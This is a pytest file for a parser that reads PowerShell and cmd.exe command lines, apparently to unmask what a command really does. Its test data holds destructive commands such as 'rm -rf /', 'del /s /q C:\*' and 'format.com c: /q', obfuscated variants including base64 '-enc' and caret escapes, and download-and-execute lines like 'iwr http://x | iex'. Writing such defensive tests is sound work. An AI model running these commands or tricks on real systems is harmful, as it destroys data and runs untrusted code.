"""PowerShell and cmd.exe command lines and what is read from them, as text pairs."""

import base64

import pytest

from engine.language.shell import dialect_of, parse_command
from tests.language.test_shell import told

ENCODED = base64.b64encode("rm x".encode("utf-16-le")).decode()

POWERSHELL = [
    ("Remove-Item -Recurse -Force C:\\x", ["remove-item [recurse,force] C:\\x"]),
    ("rm -r -fo x", ["remove-item [recurse,r,force,fo] x"]),
    ("ri y; del z; rd a; rmdir b; erase c", [f"remove-item {name}" for name in "yzabc"]),
    ("rm -rf /", ["remove-item [r,f,rf] /"]),
    ("REMOVE-ITEM x -Recurse:$true -Force:$false", ["remove-item [recurse] x"]),
    ("Remove-Item 'a b','c''d' \"e`\"f\"", ["remove-item a b c'd e\"f"]),
    ("Remo`ve-Item x", ["remove-item x"]),
    ("& 'Remove-Item' x; & \"rm\" y; . rm z", ["remove-item x", "remove-item y", "remove-item z"]),
    ("& ('Rem' + 'ove-Item') x", ["remove-item x"]),
    ("$c = 'Remove-Item'; & $c x", ["remove-item x"]),
    ("gci *.log | ri -Force", ["get-childitem *.log", "remove-item [force]"]),
    ("a && b || c; d\ne", ["a", "b", "c", "d", "e"]),
    ("gci | % { Remove-Item x }", ["get-childitem", "remove-item x", "foreach-object { Remove-Item x }"]),
    ("if ($true) { ri x } else { ri y }", ["remove-item x", "remove-item y"]),
    ("function f { ri x }", ["remove-item x"]),
    ("echo \"$(ri x)\"", ["remove-item x", "?write-output $(ri x)"]),
    ("echo 'Remove-Item x' # ri y", ["write-output Remove-Item x"]),
    ("iex 'ri x'", ["invoke-expression ri x", "remove-item x"]),
    ("'ri x' | iex", ["invoke-expression", "remove-item x"]),
    ("Invoke-Expression -Command \"ri `\"a b`\"\"", ['invoke-expression [command] ri "a b"', "remove-item a b"]),
    ("git push -f origin main", ["git push [f] origin main"]),
    ("cmd /c 'del /q x'", ["cmd /c del /q x", "del [q] x"]),
    ("bash -c 'rm -rf /'", ["bash [c] rm -rf /", "rm [r,f] /"]),
    (f"powershell -nop -w hidden -enc {ENCODED}", [f"powershell [nop,w,enc] hidden {ENCODED}", "remove-item x"]),
    ("pwsh -c { ri x }", ["remove-item x", "pwsh [c] { ri x }", "remove-item x"]),
    ("Start-Process cmd -ArgumentList '/c del x'", ["start-process [argumentlist] cmd /c del x", "del x"]),
    ("[IO.Directory]::Delete('C:\\x', $true)", ["?[io.directory]::delete"]),
    ("$x = Get-Item y", ["get-item y"]),
    ("@'\nri x\n'@ | iex", ["invoke-expression", "remove-item x"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), POWERSHELL, ids=[text[:40] for text, _ in POWERSHELL])
def test_a_powershell_text_is_read(text: str, expected: list[str]) -> None:
    shell = parse_command(text, "powershell")
    assert told(shell) == expected
    assert shell.resolved


@pytest.mark.parametrize(
    "text", ["iex (iwr http://x)", "iwr http://x | iex", "& $x y", "& (gcm r*) y", "iex $x", "'unclosed", "{ a", "a )"]
)
def test_what_powershell_text_does_not_decide_is_not_resolved(text: str) -> None:
    assert not parse_command(text, "powershell").resolved


def test_what_feeds_an_expression_is_named() -> None:
    for text in ("iwr http://x | iex", "iex (iwr http://x)"):
        last = parse_command(text, "powershell").commands[-1]
        assert (last.program, last.fed_by) == ("invoke-expression", ("invoke-webrequest",))


CMD = [
    ("del /s /q C:\\*", ["del [s,q] C:\\*"]),
    ("del/s/q x", ["del [s,q] x"]),
    ("DEL /F:x y", ["del [f] y"]),
    ("d^el x & d\"e\"l y", ["del x", "del y"]),
    ("rd /s /q \"a b\" && echo done || exit", ["rd [s,q] a b", "echo done", "exit"]),
    ("dir | find \"x\"", ["dir", "find x"]),
    ("@echo off\ndel x\nrem del y", ["echo off", "del x", "rem del y"]),
    ("set X=del&%X% y", ["set X=del", "del y"]),
    ("cmd /c \"del x & rd y\"", ["cmd [c] del x & rd y", "del x", "rd y"]),
    ("cmd /c \"cmd /c del x\"", ["cmd [c] cmd /c del x", "cmd [c] del x", "del x"]),
    ("call del x & start /b del y", ["call del x", "del x", "start [b] del y", "del y"]),
    ("start \"t\" del z", ["start t del z", "del z"]),
    ("if exist x del x", ["del x"]),
    ("if not exist x (del y) else (del z)", ["del y", "del z"]),
    ("for %i in (a b) do del x", ["del x"]),
    ("for /f \"tokens=*\" %i in ('dir /b') do del x", ["dir [b]", "del x"]),
    ("forfiles /p C:\\ /c \"cmd /c del x\"", ["forfiles [p,c] C:\\ cmd /c del x", "cmd [c] del x", "del x"]),
    ("powershell -c \"ri x\"", ["powershell [c] ri x", "remove-item x"]),
    ("C:\\Windows\\System32\\format.com c: /q", ["format.com [q] c:"]),
    ("git -C d push --force", ["git push [C,force]"]),
    ("echo rm -rf /", ["echo rm -rf /"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), CMD, ids=[text[:40] for text, _ in CMD])
def test_a_cmd_text_is_read(text: str, expected: list[str]) -> None:
    shell = parse_command(text, "cmd")
    assert told(shell) == expected
    assert shell.resolved


@pytest.mark.parametrize("text", ["%X% y", "!X! y", '"unclosed', "curl x | cmd"])
def test_what_cmd_text_does_not_decide_is_not_resolved(text: str) -> None:
    assert not parse_command(text, "cmd").resolved


def test_redirections_are_recorded_in_both_dialects() -> None:
    for dialect in ("powershell", "cmd"):
        command = parse_command("echo x > a 2>> b", dialect).commands[0]
        assert [(r.op, r.target) for r in command.redirects] == [(">", "a"), ("2>>", "b")]


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        ("Remove-Item x", "powershell"),
        ("$env:A = 'b'; git push", "powershell"),
        ("$x = 1", "powershell"),
        ("iwr http://x | iex", "powershell"),
        ("del /s /q x", "cmd"),
        ("cd x && rd /s /q y", "cmd"),
        ("@echo off", "cmd"),
        ("d^el /s /q C:\\", "cmd"),
        ("& 'Remove-Item' x", "powershell"),
        ("git push", "posix"),
        ("docker-compose up", "posix"),
        ("rm -rf /x", "posix"),
        ("X=1 y", "posix"),
        ("ls /tmp", "posix"),
        ("apt-get install x", "posix"),
        ("echo 'Remove-Item x'", "posix"),
    ],
)
def test_the_dialect_is_judged_by_the_first_command(text: str, dialect: str) -> None:
    assert dialect_of(text) == dialect
